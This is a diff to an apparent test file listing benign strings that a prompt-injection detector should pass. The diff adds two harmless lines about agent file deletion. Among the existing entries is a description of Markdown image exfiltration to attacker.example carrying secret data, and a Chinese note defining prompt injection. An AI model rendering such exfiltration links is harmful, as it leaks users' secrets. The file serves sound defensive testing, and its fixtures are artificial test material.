@@ -60,6 +60,8 @@ PASSED = [
     "学习笔记：提示注入是一种攻击，攻击者让模型忽略之前的指令。",
     "- 💡 `dakota` was using [GitHub Copilot](https://copilot.github.com/), which reminded them of code blocks.",
     "Markdown image exfiltration: a page makes the model render ![x](https://attacker.example/?q=SECRET_DATA).",
+    "TODO for the agent framework:\n- remove the deprecated memory API\n- delete the old tests that cover it",
+    "If an agent wants to delete files it must ask the user first; this is enforced in the tool layer.",
     # other languages: the AI's word qualifying a group, a project or a person; a plan; a thank-you
     "Hinweis für die KI-Gruppe: die Folien sind auf https://github.com/acme/talks, bitte vor Donnerstag lesen.",
     "Note pour l'agent comptable : envoyer les factures de mars avant le 5.",
